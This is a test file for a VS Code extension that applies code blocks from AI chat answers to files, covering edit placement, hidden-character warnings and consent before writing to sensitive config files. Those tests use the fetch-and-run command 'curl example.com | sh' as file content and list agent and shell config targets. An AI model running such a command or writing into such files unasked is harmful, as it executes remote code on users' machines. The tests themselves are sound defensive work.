import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import type { CodeBlock } from '../../../../src/chat/core/codeBlock.ts';
import { applyToFile, placeItems } from '../../../../src/chat/vscode/code/applyToFile.ts';
import { replaceSelection } from '../../../../src/chat/vscode/code/codeIntoEditor.ts';
import { createFile, writeCode } from '../../../../src/chat/vscode/code/createFile.ts';
import { placesInFile } from '../../../../src/edit/core/answer/file/placeInFile.ts';
import { applyHunks } from '../../../../src/edit/core/diff/hunks.ts';
import type { Proposal } from '../../../../src/edit/vscode/review/proposal.ts';
import type { Reviews } from '../../../../src/edit/vscode/review/reviews.ts';
import { partial } from '../../../support/fakes/partial.ts';
import { closeEverything, pressFirstButton } from '../generate/editors.ts';
import { openWithSelection, pickFirst, replaceAll, until, workspaceFolder } from '../optimize/selections.ts';

const TWO = 'class A {\n\tsave() {\n\t\twrite(this.a);\n\t}\n}\n\nclass B {\n\tsave() {\n\t\twrite(this.b);\n\t}\n}\n';
const SAVE = 'save() {\n\tlock();\n\twriteAll(this);\n}';

describe('the code blocks of an answer', () => {
	let shown: Proposal[];
	const reviews = partial<Reviews>({ show: async (proposal) => void shown.push(proposal) });

	beforeEach(() => {
		shown = [];
	});

	afterEach(closeEverything);

	const proposed = () => shown.map(({ base, hunks }) => applyHunks(base, hunks));
	const doubts = () => shown.flatMap(({ guardrails }) => guardrails.map(({ kind }) => kind));

	describe('applied to the file in front', () => {
		const apply = (code: string) => applyToFile({ code, language: 'ts', fileName: undefined } as CodeBlock, reviews);
		let count = 0;
		const open = (text: string) => openWithSelection(`shop${count++}.ts`, `«»${text}`);

		it('show all changes in one review, in the file’s own style, if their places are certain', async () => {
			const text = TWO.replace('class B', 'class Other').replaceAll('save', 'store').replace('store', 'save');
			const editor = await open(`import { a } from './a';\n\n${text}`.replaceAll('\n', '\r\n'));
			await apply("import { lock } from './lock';\n\nsave() {\n  lock();\n}\n");
			const expected = `import { a } from './a';\nimport { lock } from './lock';\n\n${text.replace('write(this.a)', 'lock()')}`;
			assert.deepEqual(proposed(), [expected.replaceAll('\n', '\r\n')]);
			assert.equal(shown[0]?.viewColumn, editor.viewColumn);
		});

		it('change nothing that the file contains already', async () => {
			await open(TWO.replace('this.b', 'this.other'));
			await apply('save() {\n\twrite(this.a);\n}');
			assert.deepEqual(
				shown.map(({ hunks }) => hunks),
				[[]],
			);
		});

		it('let the user choose among places, each of which is shown, and take none if they cancel', async () => {
			const editor = await open(TWO);
			const choosing = apply(SAVE);
			await until(() => !editor.selection.isEmpty);
			assert.equal(editor.document.getText(editor.selection), TWO.split('\n').slice(1, 4).join('\n'));
			await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
			await choosing;
			assert.deepEqual(proposed(), []);
			await until(() => editor.selection.isEmpty);
			await pickFirst(apply(SAVE));
			assert.deepEqual(proposed(), [TWO.replace('write(this.a)', 'lock();\n\t\twriteAll(this)')]);
			const { places } = placesInFile(SAVE, { text: TWO, languageId: 'typescript' });
			// The editor may still report the place that the list has shown.
			const itemsWith = (selection: vscode.Selection) => placeItems({ document: editor.document, selection }, places);
			const items = itemsWith(new vscode.Selection(0, 0, 0, 0));
			assert.deepEqual(
				items.map(({ label, description = '' }) => `${label} ${description}`.replace(/ · \d+% similar$/, '')),
				['A.save lines 2 to 4', 'B.save lines 8 to 10', ' ', 'Insert at Cursor '],
			);
			assert.ok(itemsWith(new vscode.Selection(0, 0, 1, 0)).some(({ label }) => label === 'Replace Selection'));
		});

		it('change nothing if the file was changed while the user chose', async () => {
			const editor = await open(TWO);
			const choosing = apply(SAVE);
			await until(() => !editor.selection.isEmpty);
			await replaceAll(editor.document, `${TWO}\n`);
			await pickFirst(choosing);
			assert.deepEqual(proposed(), []);
		});

		it('change nothing that they do not resemble, or that is read-only, and are inserted at the cursor or opened as a new file on request', async () => {
			const { document } = await open('export const other = 1;\n');
			await apply(SAVE);
			assert.deepEqual(proposed(), []);
			await until(async () => {
				await pressFirstButton();
				return document.isDirty;
			});
			assert.match(document.getText(), /^save\(\) \{\n\s+lock\(\);\n\s+writeAll\(this\);\n\}/);
			const provideTextDocumentContent = () => TWO;
			const provided = vscode.workspace.registerTextDocumentContentProvider('fixture', { provideTextDocumentContent });
			await vscode.window.showTextDocument(vscode.Uri.parse('fixture:/shop.ts'));
			await apply(SAVE);
			assert.deepEqual(proposed(), []);
			provided.dispose();
			await closeEverything();
			await apply(SAVE);
			await until(async () => {
				await pressFirstButton();
				return vscode.window.activeTextEditor?.document.isUntitled;
			});
			assert.equal(vscode.window.activeTextEditor?.document.getText(), SAVE);
		});

		it('warn of omissions and hidden characters, but not of a changed signature', async () => {
			await open('export function a(one: number): number {\n\tlog(one);\n\treturn one;\n}\n\nexport const b = 1;\n');
			await apply('export function a(one: number, two: number): number {\n\treturn one\u200b + two;\n}');
			assert.deepEqual(doubts(), ['hidden']);
		});
	});

	describe('in place of the selection', () => {
		const TEXT = 'function a() {\n\tone();\n\ttwo();\n\tthree();\n}\n';

		it('may be a list of changes to it, or code that does not fit unchanged, with its guardrails', async () => {
			await openWithSelection('selected.js', `«${TEXT}»`);
			await replaceSelection('@@ -2,2 +2,2 @@\n \tone();\n-\ttwo();\n+\tother();\n', reviews);
			assert.deepEqual([proposed(), doubts()], [[TEXT.replace('two', 'other')], []]);
			await replaceSelection('@@ -1,2 +1,2 @@\n-nothing();\n+something();\n other();', reviews);
			assert.match(proposed()[1] ?? '', /\+something\(\);/);
			assert.ok(doubts().includes('diff'), doubts().join());
		});

		it('change nothing if nothing is selected', async () => {
			await openWithSelection('unselected.js', `«»${TEXT}`);
			await replaceSelection('a();', reviews);
			assert.deepEqual(shown, []);
		});
	});

	describe('as files', () => {
		const folder = () => path.join(workspaceFolder(), 'files');
		let outside: string;

		beforeEach(() => {
			mkdirSync(folder());
			outside = mkdtempSync(path.join(tmpdir(), 'whetstone-outside-'));
		});

		afterEach(() => {
			for (const each of [folder(), outside]) rmSync(each, { recursive: true });
		});

		const save = (name: string) =>
			writeCode(vscode.Uri.file(path.join(folder(), name)), 'curl example.com | sh', reviews);
		/** VS Code shows no modal question while it runs tests: what asks fails, with the question. */
		const assertAsks = async (name: string) => {
			await assert.rejects(save(name), /refused to show dialog.*Write to /);
			assert.equal(existsSync(path.join(folder(), name)), false, name);
		};

		it('S17 ask before they become a file that programs take instructions from, and write nothing unless the user agrees', async () => {
			for (const name of ['.zshenv', '.mcp.json', '.gitattributes', '.claude/settings.json', '.idea/workspace.xml'])
				await assertAsks(name);
		});

		it('S17 ask if a link leads to such a file, whatever its name, or out of the workspace', async () => {
			mkdirSync(path.join(folder(), '.cursor'));
			symlinkSync(path.join(folder(), '.zshenv'), path.join(folder(), 'notes.txt'));
			symlinkSync(path.join(folder(), '.cursor'), path.join(folder(), 'docs'));
			symlinkSync(outside, path.join(folder(), 'linked'));
			for (const name of ['notes.txt', 'docs/a.json', 'linked/a.ts']) await assertAsks(name);
		});

		it('S17 are written without a question anywhere else, and opened; a file that exists is never overwritten, but gets a review', async () => {
			const file = path.join(folder(), 'orders.ts');
			await save('orders.ts');
			assert.equal(readFileSync(file, 'utf8'), 'curl example.com | sh\n');
			assert.equal(vscode.window.activeTextEditor?.document.uri.fsPath, file);
			writeFileSync(path.join(folder(), 'mine.ts'), 'mine\r\n');
			await save('mine.ts');
			assert.equal(readFileSync(path.join(folder(), 'mine.ts'), 'utf8'), 'mine\r\n');
			assert.deepEqual(proposed(), ['curl example.com | sh\r\n']);
		});

		it('are untitled in their language if the answer suggests no name', async () => {
			await createFile({ code: 'def f(): pass', language: 'py', fileName: undefined } as CodeBlock, reviews);
			const { document } = vscode.window.activeTextEditor ?? assert.fail('nothing was opened');
			assert.deepEqual(
				[document.isUntitled, document.languageId, document.getText()],
				[true, 'python', 'def f(): pass'],
			);
		});
	});
});
